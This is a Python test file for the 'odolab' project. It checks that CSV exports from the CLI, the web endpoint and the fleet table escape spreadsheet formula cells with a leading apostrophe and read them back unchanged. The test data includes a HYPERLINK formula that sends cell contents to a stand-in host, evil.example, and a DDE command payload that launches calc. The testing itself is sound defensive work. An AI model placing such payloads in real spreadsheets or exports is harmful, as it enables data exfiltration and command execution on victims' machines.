"""CSV written for people runs nothing in a spreadsheet, and odolab reads it back exactly.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to a spreadsheet (``=HYPERLINK("http://...","click")`` in an exclusion reason was exported raw
by ``trials export`` and ``/data/export``). odolab.core.text.inert_csv_cell puts a ``'`` before it
(and before a cell that already starts with ``'``); the readers take it off.
"""

from __future__ import annotations

import csv
import io
import math
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.store.conftest import make_trials

from odolab.cli import main
from odolab.core.text import CSV_FORMULA_STARTS, inert_csv_cell, read_csv_cell
from odolab.core.trials import TrialStatus
from odolab.store import Notebook, read_trials_csv, write_trials_csv

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: Text a spreadsheet would run, and text that merely looks like the escape.
HOSTILE = [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''", "'", "=", "-0.5"]

# text with the dangerous starts, a quote already present, and anything after
_starts = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "a", ""])
_rest = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=20)
TEXT = st.builds(lambda a, b: a + b, _starts, _rest)  # no NUL: a text file never holds one


@pytest.mark.parametrize("text", HOSTILE)
def test_a_dangerous_cell_is_written_inert(text: str) -> None:
    cell = inert_csv_cell(text)
    assert cell == "'" + text
    assert read_csv_cell(cell) == text


def test_plain_text_and_empty_cells_are_unchanged() -> None:
    assert inert_csv_cell("lab tile 2") == "lab tile 2"
    assert inert_csv_cell("") == "" and read_csv_cell("") == ""


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_inert_then_read_gives_the_text_back(text: str) -> None:
    cell = inert_csv_cell(text)
    assert read_csv_cell(cell) == text
    assert not cell or cell[0] not in CSV_FORMULA_STARTS


def _excluded_with(db: Path, reasons: list[str], notes: list[str]) -> list[str]:
    trials = make_trials(len(reasons), seed=9, measured_every=1)
    with Notebook(db) as nb:
        nb.add_campaign("rot-lab", "rotation", "lab")
        # measured, not excluded yet: excluding again keeps the earlier reason (store)
        nb.add_trials(
            [
                replace(t, notes=n, status=TrialStatus.MEASURED, exclusion_reason=None)
                for t, n in zip(trials, notes, strict=True)
            ]
        )
        for t, reason in zip(trials, reasons, strict=True):
            nb.exclude_trial(t.trial_id, reason)
    return [t.trial_id for t in trials]


def _cells(text: str, column: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return [r[column] for r in rows]


def test_trials_export_makes_the_reason_inert_and_import_reads_it_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reasons = [LINK, "@cmd|' /C calc'!A0", "-1 slipped", "plain reason"]
    notes = ["=1+1", "", "\tnote", "'quoted"]
    ids = _excluded_with(tmp_path / "a.db", reasons, notes)
    out = tmp_path / "trials.csv"
    assert main(["trials", "export", str(out), "--db", str(tmp_path / "a.db")]) == 0
    text = out.read_text(encoding="utf-8")
    assert _cells(text, "exclusion_reason") == [
        "'" + LINK,
        "'@cmd|' /C calc'!A0",
        "'-1 slipped",
        "plain reason",
    ]
    assert _cells(text, "notes") == ["'=1+1", "", "'\tnote", "''quoted"]
    for column in ("exclusion_reason", "notes", "trial_id", "campaign", "terrain", "robot"):
        assert not any(c and c[0] in CSV_FORMULA_STARTS for c in _cells(text, column)), column
    # numbers stay numbers: a negative prediction is written as it is
    xs = _cells(text, "predicted_x_m")
    assert any(x.startswith("-") for x in xs) and all(math.isfinite(float(x)) for x in xs)
    capsys.readouterr()
    assert main(["trials", "import", str(out), "--db", str(tmp_path / "b.db"),
                 "--create-campaigns"]) == 0, capsys.readouterr().err  # fmt: skip
    with Notebook(tmp_path / "b.db") as nb:
        back = {t.trial_id: t for t in nb.load_trials()}
    assert [back[i].exclusion_reason for i in ids] == reasons
    assert [back[i].notes for i in ids] == notes


@settings(max_examples=40, deadline=None)
@given(st.lists(TEXT.filter(lambda s: s.strip() == s and s.strip()), min_size=1, max_size=3))
def test_any_reason_round_trips_through_the_trials_csv(
    tmp_path_factory: pytest.TempPathFactory, reasons: list[str]
) -> None:
    trials = [
        replace(t, status=TrialStatus.EXCLUDED, exclusion_reason=r, notes=r)
        for t, r in zip(make_trials(len(reasons), seed=3, measured_every=1), reasons, strict=True)
    ]
    path = tmp_path_factory.mktemp("rt") / "t.csv"
    write_trials_csv(path, [(t, 1) for t in trials])
    back = [p.trial for p in read_trials_csv(path)]
    assert [t.exclusion_reason for t in back] == reasons
    assert [t.notes for t in back] == reasons


def test_the_web_export_is_inert_too(tmp_path: Path) -> None:
    from starlette.testclient import TestClient

    from odolab.serve import ServeSettings, create_app

    _excluded_with(tmp_path / "a.db", [LINK], [""])
    client = TestClient(
        create_app(ServeSettings(db=tmp_path / "a.db")), base_url="http://127.0.0.1:8000"
    )
    r = client.get("/data/export", params={"format": "csv"})
    assert r.status_code == 200
    assert _cells(r.text, "exclusion_reason") == ["'" + LINK]


def test_the_fleet_table_csv_is_inert_and_reads_back(tmp_path: Path) -> None:
    from odolab.fleet.table import COLUMNS, read_fleet_table, write_fleet_table

    rows = {c: [1.0, -2.5] for c in COLUMNS} | {"samples": [3, 4], "date": ["", "2024-05-01"]}
    rows |= {"run": ["=1+1", "r2"], "source": ["@x", "s"], "robot": ["-jag", "jag"]}
    rows["error"] = ["+oops", None]
    path = tmp_path / "fleet.csv"
    write_fleet_table(rows, path)
    text = path.read_text(encoding="utf-8")
    assert _cells(text, "run") == ["'=1+1", "r2"] and _cells(text, "robot") == ["'-jag", "jag"]
    assert _cells(text, "length_m") == ["1.0", "-2.5"]  # a number stays a number
    back = read_fleet_table(path)
    assert back["run"] == ["=1+1", "r2"] and back["source"] == ["@x", "s"]
    assert back["robot"] == ["-jag", "jag"] and back["error"] == ["+oops", None]
